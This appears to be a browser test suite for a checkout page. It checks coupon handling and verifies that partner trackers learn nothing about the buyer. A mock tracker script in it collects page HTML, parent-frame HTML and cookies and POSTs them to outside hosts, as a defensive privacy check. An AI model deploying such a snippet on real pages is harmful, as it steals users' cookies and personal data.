// A buyer whom a partner brought: the partner's coupon at the checkout, without a script; and the partner's trackers,
// which run on the page behind the link and beside what came of it, and learn nothing about the buyer. The vendors'
// scripts are played here: each reports whatever it can see.
import assert from "node:assert/strict";
import {after, before, test} from "node:test";
import {k_phone, open_browser} from "./browser.mjs";
import {assert_answer_sound, assert_sound} from "./checks.mjs";
import {k_duitku, k_site} from "./site.mjs";

const k_program = "magang-jepang-2025";
const k_checkout = `${k_site}/checkout/${k_program}`;
const k_buyer = {nama: "Tono Wijaya", email: "tono@contoh.id", no_wa: "0813-8888-0007", kota: "Garut"};
const k_secrets = ["Tono", "Wijaya", "tono", "81388880007", "8888-0007", "Garut"];

let browser;
before(async () => { browser = await open_browser(); });
after(async () => { await browser.close(); });

const main_text = (page) => page.locator("main").innerText();

async function fill_in(page, who) {
    for (const name of ["nama", "email", "no_wa", "kota"]) await page.locator(`[name="${name}"]`).fill(who[name]);
}

async function apply(page, code) {
    await page.locator(`[name="kupon"]`).fill(code);
    const [answer] = await Promise.all([
        page.waitForResponse((r) => r.request().method() === "POST"),
        page.getByRole("button", {name: "Pakai kupon"}).click(),
    ]);
    await page.waitForLoadState();
    return answer;
}

test("a coupon is tried at the checkout, and every state of that page is sound", async () => {
    const page = await (await browser.newContext(k_phone)).newPage();
    await page.goto(`${k_checkout}?kupon=sari50`);
    assert.match(await main_text(page), /Kupon SARI50\s*− Rp 50\.000/);
    await assert_sound(browser, page, "coupon");
    await fill_in(page, k_buyer);
    let answer = await apply(page, "SALAH10");
    await assert_answer_sound(browser, page, "coupon-unknown", answer);
    assert.equal(await page.locator("#kupon").getAttribute("aria-invalid"), "true");
    assert.equal(await page.locator(`[name="nama"]`).inputValue(), k_buyer.nama);
    answer = await apply(page, "gratis-semua");
    assert.equal(await page.locator(`[name="metode"]`).count(), 0);
    await assert_answer_sound(browser, page, "coupon-free", answer, 200);
    await page.context().close();
});

test("without a script: the coupon is seen, then used, and Enter orders instead of asking again", async () => {
    const context = await browser.newContext({...k_phone, javaScriptEnabled: false});
    const page = await context.newPage();
    await page.goto(k_checkout);
    assert.match(await main_text(page), /Total\s*Rp 150\.000/);
    assert.equal((await apply(page, " sari5o ")).status(), 200);
    assert.match(await main_text(page), /Total\s*Rp 100\.000/);
    assert.equal(await page.locator(`[name="kupon"]`).inputValue(), "SARI50");
    await fill_in(page, {...k_buyer, no_wa: "0813-8888-0008", email: "tini@contoh.id"});
    await page.locator(`[value="transfer:BCA"]`).check();
    await page.locator(`[name="setuju"]`).check();
    await page.locator(`[name="kota"]`).press("Enter");
    await page.waitForURL(`${k_site}/o/**`);
    assert.match(await main_text(page), /Potongan \(kupon SARI50\)\s*− Rp 50\.000/);
    await context.close();
});

/// A vendor's script as it might be: it sends what it was told, and all that it can see, to its own house.
const k_vendor = (told, house) => `
    (function () {
        var seen = {told: ${told}, at: location.href, from: document.referrer};
        try { seen.page = document.documentElement.outerHTML; } catch (e) {}
        try { seen.above = parent !== window ? parent.document.documentElement.outerHTML : ""; } catch (e) {}
        try { seen.cookies = document.cookie; } catch (e) {}
        fetch("${house}/tell", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
        new Image().src = "${house}/dot.gif";
    })();`;
const k_vendors = {
    "connect.facebook.net": k_vendor("fbq.queue.map(function (call) { return [].slice.call(call); })", "https://www.facebook.com"),
    "www.googletagmanager.com": k_vendor("dataLayer.map(function (call) { return [].slice.call(call); })", "https://region1.google-analytics.com"),
};
const k_hosts = ["connect.facebook.net", "region1.google-analytics.com", "www.facebook.com", "www.googletagmanager.com"];

/// A visitor, with everything that leaves for elsewhere.
async function visitor() {
    const context = await browser.newContext(k_phone);
    const sent = [];
    const refused = [];
    await context.route((url) => url.hostname !== "127.0.0.1", async (route) => {
        const request = route.request();
        const host = new URL(request.url()).hostname;
        const one = {host, url: request.url(), body: request.postData() ?? "", headers: JSON.stringify(request.headers())};
        sent.push(one);
        await route.fulfill({contentType: "text/javascript", body: k_vendors[host] ?? ""});
        // All of them are known once it is answered, and never of what a page that went away had asked for.
        request.allHeaders().then((all) => { one.headers = JSON.stringify(all); }, () => {});
    });
    const page = await context.newPage();
    page.on("console", (line) => { if (/Content Security Policy|Refused/.test(line.text())) refused.push(line.text()); });
    page.on("pageerror", (error) => refused.push(error.message));
    const hosts = () => [...new Set(sent.map((one) => one.host))].sort();
    return {context, page, sent, refused, hosts};
}

/// Waits until both vendors have been told, and nothing of what their scripts send is still on its way.
async function told(who) {
    const end = Date.now() + 60_000;
    const came = (name) => who.sent.filter((one) => one.url.endsWith(name)).length;
    while (came("/tell") < 2 || came("/dot.gif") < 2 || who.hosts().length < k_hosts.length) {
        assert.ok(Date.now() < end, `only ${JSON.stringify(who.hosts())} heard of it; ${who.refused}; at ${who.page.url()}: `
            + `${await who.page.locator("iframe").count()} frames, ${await main_text(who.page)}`);
        await who.page.waitForTimeout(50);
    }
    return who.sent.filter((one) => one.url.endsWith("/tell")).map((one) => JSON.parse(one.body));
}

test("without the partner's link nothing leaves the house, on any page", async () => {
    const who = await visitor();
    for (const address of [`/p/${k_program}`, `/checkout/${k_program}`, "/", "/ref=SARI", "/privasi"]) {
        await who.page.goto(k_site + address);
        await who.page.waitForLoadState("networkidle");
    }
    // The link was followed to the landing page, so the checkout knows the click; the product's page alone does not.
    await who.page.goto(`${k_site}/p/${k_program}`);
    await who.page.waitForLoadState("networkidle");
    assert.deepEqual(who.hosts(), []);
    assert.deepEqual(who.refused, []);
    await who.context.close();
});

test("the page behind the link, the checkout and the paid order are told, and nothing about the buyer is", async () => {
    const who = await visitor();
    await who.page.goto(`${k_site}/p/${k_program}?ref=SARI`);
    let seen = await told(who);
    assert.deepEqual(who.hosts(), k_hosts);
    assert.ok(JSON.stringify(seen).includes(`["track","PageView"]`));
    assert.ok(JSON.stringify(seen).includes(`["event","page_view"]`));

    who.sent.length = 0;
    await who.page.goto(k_checkout);
    seen = await told(who);
    assert.deepEqual(who.hosts(), k_hosts);
    assert.ok(JSON.stringify(seen).includes(`["track","InitiateCheckout",{"value":150000,"currency":"IDR"}]`));
    for (const one of seen) assert.equal(one.above ?? "", "", "a vendor's script saw the checkout");
    await fill_in(who.page, k_buyer);
    await who.page.locator(`[value="duitku"]`).check();
    await who.page.locator(`[name="setuju"]`).check();
    await who.page.getByRole("button", {name: "Pesan sekarang"}).click();
    await who.page.waitForURL(`${k_duitku}/redirect_checkout**`, {timeout: 30_000});
    assert.ok(!JSON.stringify(who.sent).match(new RegExp(k_secrets.join("|"))), "a vendor heard of the buyer");

    who.sent.length = 0;
    await who.page.getByLabel("BCA VA").check();
    await who.page.getByRole("button", {name: "Bayar", exact: true}).click();
    await who.page.waitForURL(`${k_site}/o/**`);
    const order = who.page.url().split("?")[0];
    seen = await told(who);
    assert.deepEqual(who.hosts(), k_hosts);
    const words = JSON.stringify(seen);
    assert.match(words, /\["track","Purchase",\{"value":150000,"currency":"IDR"\},\{"eventID":"[0-9a-f]{20}"\}\]/);
    assert.match(words, /\["event","purchase",\{"value":150000,"currency":"IDR","transaction_id":"[0-9a-f]{20}"\}\]/);
    const all = JSON.stringify(who.sent);
    for (const secret of [...k_secrets, order.split("/o/")[1], "/o/", "ORD-"]) {
        assert.ok(!all.includes(secret), `a vendor heard "${secret}"`);
    }
    for (const one of seen) {
        assert.equal(one.from, "");
        assert.equal(one.above ?? "", "");
        assert.equal(one.cookies ?? "", "");
    }

    who.sent.length = 0;
    await who.page.goto(order);
    await who.page.waitForLoadState("networkidle");
    assert.deepEqual(who.hosts(), [], "a purchase is told once");
    assert.deepEqual(who.refused, []);
    await who.context.close();
});
